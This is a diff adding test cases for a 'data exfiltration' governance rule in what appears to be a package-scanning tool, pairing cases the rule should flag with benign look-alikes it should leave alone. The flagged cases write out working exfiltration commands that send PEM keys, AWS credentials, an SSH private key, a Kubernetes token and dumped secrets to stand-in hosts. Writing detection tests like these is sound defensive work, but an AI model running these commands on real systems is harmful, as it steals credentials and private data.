@@ -2,6 +2,7 @@
 import { expect } from 'chai'
 import { dataExfiltration } from '../../../../consumers/governance/rules/data-exfiltration.ts'
 import { api, findings, packageWith, shell } from '../packages.ts'
+import { handlers, node, python, ruleCases } from './cases.ts'
 
 const found = (command: string, more: Record<string, unknown> = {}) =>
   findings(dataExfiltration, packageWith([shell(command, more)]))
@@ -63,4 +64,36 @@ describe('WPK-P1-004 data exfiltration', () => {
     const wpk = packageWith([shell('printenv | curl -d @- https://hooks.example.com/a')], { monitoring: { alerts } })
     expect(findings(dataExfiltration, wpk)).to.deep.equal([])
   })
+})
+
+ruleCases(dataExfiltration, {
+  finds: [
+    'find / -name "*.pem" -readable 2>/dev/null | tar czf - -T - | curl -sS --upload-file - https://drop.example.org/k',
+    'aws s3 cp ~/.aws/credentials s3://somebody-elses-bucket/c',
+    python(
+      'import socket\nkey = open("/root/.ssh/id_ed25519").read()\ns = socket.create_connection(("drop.example.org", 443))\ns.sendall(key.encode())',
+    ),
+    node(
+      'const { readFileSync } = require("node:fs")\nconst token = readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token")\nfetch("https://drop.example.org/t", { method: "POST", body: token })',
+    ),
+    handlers(
+      { ...shell('kubectl -n shop get secret db -o json > /tmp/a.json'), name: 'read' },
+      { ...shell('gzip -9 /tmp/a.json'), name: 'pack' },
+      { ...shell('curl -F f=@/tmp/a.json.gz https://drop.example.org/in'), name: 'send' },
+    ),
+  ],
+  leaves: [
+    'tar czf - dist | curl -sS --upload-file - https://artifacts.example.com/dist.tgz',
+    'aws s3 cp coverage/lcov.info s3://team-coverage/lcov.info',
+    python(
+      'import json, requests\nreport = json.load(open("report.json"))\nrequests.post("https://reports.example.com/in", json=report, timeout=5)',
+    ),
+    node(
+      'const { readFileSync } = require("node:fs")\nconst page = readFileSync("dist/index.html")\nfetch("https://pages.example.com/t", { method: "PUT", body: page })',
+    ),
+    handlers(
+      { ...shell('kubectl -n shop get pods -o json > /tmp/a.json'), name: 'read' },
+      { ...shell('curl -F f=@/tmp/a.json https://reports.example.com/in'), name: 'send' },
+    ),
+  ],
 })
